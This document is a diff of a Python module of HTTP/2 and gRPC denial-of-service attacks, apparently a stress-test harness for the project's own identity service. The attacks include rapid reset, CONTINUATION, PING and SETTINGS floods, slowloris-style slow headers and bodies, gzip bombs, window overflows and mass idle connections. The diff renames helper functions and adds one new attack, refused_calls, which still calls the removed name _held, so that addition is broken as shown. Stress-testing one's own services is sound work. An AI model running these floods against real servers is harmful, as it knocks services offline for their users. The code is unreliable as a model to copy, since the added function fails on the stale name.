@@ -46,7 +46,7 @@ def identify(user: str) -> bytes:
     return identity_service_pb2.IdentifyRequest(workspace=ATTACKED, identifiers=[identifier]).SerializeToString()
 
 
-async def _again(host: str, port: int, connections: int, talk: Talk) -> None:
+async def again(host: str, port: int, connections: int, talk: Talk) -> None:
     """Talk on so many connections at once, each opened anew when the server closes it."""
 
     async def one() -> None:
@@ -62,16 +62,17 @@ async def _again(host: str, port: int, connections: int, talk: Talk) -> None:
     await asyncio.gather(*(one() for _ in range(connections)))
 
 
-async def _drained(reader: asyncio.StreamReader) -> None:
+async def drained(reader: asyncio.StreamReader) -> None:
+    """Read until the server closes."""
     while await reader.read(65536):
         pass
 
 
-async def _flood(host: str, port: int, connections: int, first: bytes, chunk: Callable[[int], bytes]) -> None:
+async def flood(host: str, port: int, connections: int, first: bytes, chunk: Callable[[int], bytes]) -> None:
     """Send chunk after chunk as fast as the server takes them."""
 
     async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        reading = asyncio.create_task(_drained(reader))
+        reading = asyncio.create_task(drained(reader))
         try:
             writer.write(first)
             number = 0
@@ -83,14 +84,14 @@ async def _flood(host: str, port: int, connections: int, first: bytes, chunk: Ca
         finally:
             reading.cancel()
 
-    await _again(host, port, connections, talk)
+    await again(host, port, connections, talk)
 
 
-async def _held(host: str, port: int, connections: int, sent: bytes, trickle: bytes, *, reads: bool = True) -> None:
+async def held(host: str, port: int, connections: int, sent: bytes, trickle: bytes, *, reads: bool = True) -> None:
     """Send something, then a little every tenth of a second, for as long as the server lets it."""
 
     async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        reading = asyncio.create_task(_drained(reader) if reads else asyncio.sleep(3600))
+        reading = asyncio.create_task(drained(reader) if reads else asyncio.sleep(3600))
         try:
             writer.write(sent)
             place = 0
@@ -101,7 +102,7 @@ async def _held(host: str, port: int, connections: int, sent: bytes, trickle: by
         finally:
             reading.cancel()
 
-    await _again(host, port, connections, talk)
+    await again(host, port, connections, talk)
 
 
 async def rapid_reset(host: str, port: int) -> None:
@@ -115,36 +116,36 @@ async def rapid_reset(host: str, port: int) -> None:
             for stream in range(first, first + 400, 2)
         )
 
-    await _flood(host, port, 4, greeting(), chunk)
+    await flood(host, port, 4, greeting(), chunk)
 
 
 async def continuation_flood(host: str, port: int) -> None:
     """Headers that never end."""
     first = greeting() + frame(HEADERS, 0, 1, call_headers(IDENTIFY))
-    await _flood(host, port, 4, first, lambda _: frame(CONTINUATION, 0, 1, block(("a", "b"))) * 500)
+    await flood(host, port, 4, first, lambda _: frame(CONTINUATION, 0, 1, block(("a", "b"))) * 500)
 
 
 async def ping_flood(host: str, port: int) -> None:
     """Pings, all of which want an answer."""
-    await _flood(host, port, 4, greeting(), lambda _: frame(PING, 0, 0, bytes(8)) * 1000)
+    await flood(host, port, 4, greeting(), lambda _: frame(PING, 0, 0, bytes(8)) * 1000)
 
 
 async def settings_flood(host: str, port: int) -> None:
     """Settings, all of which want to be acknowledged."""
-    await _flood(host, port, 4, greeting(), lambda _: frame(SETTINGS, 0, 0) * 1000)
+    await flood(host, port, 4, greeting(), lambda _: frame(SETTINGS, 0, 0) * 1000)
 
 
 async def empty_frames(host: str, port: int) -> None:
     """A body of frames without a byte."""
     first = greeting() + frame(HEADERS, END_HEADERS, 1, call_headers(IDENTIFY))
-    await _flood(host, port, 4, first, lambda _: frame(DATA, 0, 1) * 1000)
+    await flood(host, port, 4, first, lambda _: frame(DATA, 0, 1) * 1000)
 
 
 async def slow_headers(host: str, port: int) -> None:
     """Headers of which a byte comes now and then (slowloris)."""
     headers = call_headers(IDENTIFY)
     begun = greeting() + (len(headers)).to_bytes(3) + bytes((HEADERS, END_HEADERS)) + (1).to_bytes(4)
-    await _held(host, port, 500, begun, headers)
+    await held(host, port, 500, begun, headers)
 
 
 async def slow_bodies(host: str, port: int) -> None:
@@ -158,14 +159,14 @@ async def slow_bodies(host: str, port: int) -> None:
     )
 
     async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        reading = asyncio.create_task(_drained(reader))
+        reading = asyncio.create_task(drained(reader))
         writer.write(greeting() + opened)
         for start in range(0, len(dribble), 1000):
             writer.write(dribble[start : start + 1000])
             await asyncio.sleep(0.05)
         await reading
 
-    await _again(host, port, 4, talk)
+    await again(host, port, 4, talk)
 
 
 async def announced(host: str, port: int) -> None:
@@ -173,7 +174,7 @@ async def announced(host: str, port: int) -> None:
     huge = b"\0" + (32 * 1024 * 1024).to_bytes(4)
     paths = (IDENTIFY, STREAM_RESOLVE)
     opened = b"".join(call(2 * number + 1, paths[number % 2], huge, end=False) for number in range(STREAMS))
-    await _held(host, port, 50, greeting() + opened, b"")
+    await held(host, port, 50, greeting() + opened, b"")
 
 
 async def answers_without_window(host: str, port: int) -> None:
@@ -192,7 +193,7 @@ async def _unread(host: str, port: int, window_bytes: int, *, reads: bool) -> No
         one.calls.add().identify.ParseFromString(identify(f"unread-{number}"))
     asked = b"".join(call(2 * number + 1, BATCH_RESOLVE, message(one.SerializeToString())) for number in range(50))
     window = frame(WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4))
-    await _held(host, port, 8, greeting(window_bytes) + window + asked, b"", reads=reads)
+    await held(host, port, 8, greeting(window_bytes) + window + asked, b"", reads=reads)
 
 
 async def gzip_bombs(host: str, port: int) -> None:
@@ -206,28 +207,36 @@ async def gzip_bombs(host: str, port: int) -> None:
         window = frame(WINDOW_UPDATE, 0, 0, (100_000).to_bytes(4))
         return window + b"".join(call(stream, IDENTIFY, bomb, *packed) for stream in range(first, first + 20, 2))
 
-    await _flood(host, port, 4, greeting(), chunk)
+    await flood(host, port, 4, greeting(), chunk)
+
+
+async def refused_calls(host: str, port: int) -> None:
+    """Messages of a thousand calls of two bytes each, all refused, and nobody takes the answers."""
+    many = message(b"\x12\x08attacked" + b"\x1a\0" * 1000)
+    asked = b"".join(call(2 * number + 1, STREAM_RESOLVE, many * 17, end=False) for number in range(100))
+    window = frame(WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4))
+    await _held(host, port, 2, greeting(0) + window + asked, b"")
 
 
 async def windows_that_overflow(host: str, port: int) -> None:
     """Windows greater than a window may be."""
     over = frame(WINDOW_UPDATE, 0, 0, WINDOW_BYTES_MAX.to_bytes(4)) * 2
-    await _flood(host, port, 4, greeting(), lambda _: over)
+    await flood(host, port, 4, greeting(), lambda _: over)
 
 
 async def garbage(host: str, port: int) -> None:
     """Bytes that are no HTTP/2."""
-    await _flood(host, port, 8, b"\x16\x03\x01\x02\0", lambda number: bytes((number % 251,)) * 1000)
+    await flood(host, port, 8, b"\x16\x03\x01\x02\0", lambda number: bytes((number % 251,)) * 1000)
 
 
 async def http_1(host: str, port: int) -> None:
     """Requests of HTTP/1.1."""
-    await _flood(host, port, 8, b"", lambda _: b"GET / HTTP/1.1\r\nhost: attack\r\n\r\n")
+    await flood(host, port, 8, b"", lambda _: b"GET / HTTP/1.1\r\nhost: attack\r\n\r\n")
 
 
 async def idle_connections(host: str, port: int) -> None:
     """More connections than the server takes, which greet, answer nothing and call nothing."""
-    await _held(host, port, 6000, greeting() + frame(SETTINGS, ACK, 0), b"")
+    await held(host, port, 6000, greeting() + frame(SETTINGS, ACK, 0), b"")
 
 
 async def many_streams(host: str, port: int) -> None:
@@ -239,10 +248,10 @@ async def many_streams(host: str, port: int) -> None:
             frame(HEADERS, END_HEADERS, stream, call_headers(STREAM_RESOLVE)) for stream in range(first, first + 200, 2)
         )
 
-    await _flood(host, port, 4, greeting(), chunk)
+    await flood(host, port, 4, greeting(), chunk)
 
 
-ATTACKS: Final[dict[str, Attack]] = {
+PLAIN_ATTACKS: Final[dict[str, Attack]] = {
     attack.__name__: attack
     for attack in (
         rapid_reset,
@@ -256,6 +265,7 @@ ATTACKS: Final[dict[str, Attack]] = {
         answers_without_window,
         answers_never_read,
         gzip_bombs,
+        refused_calls,
         windows_that_overflow,
         garbage,
         http_1,
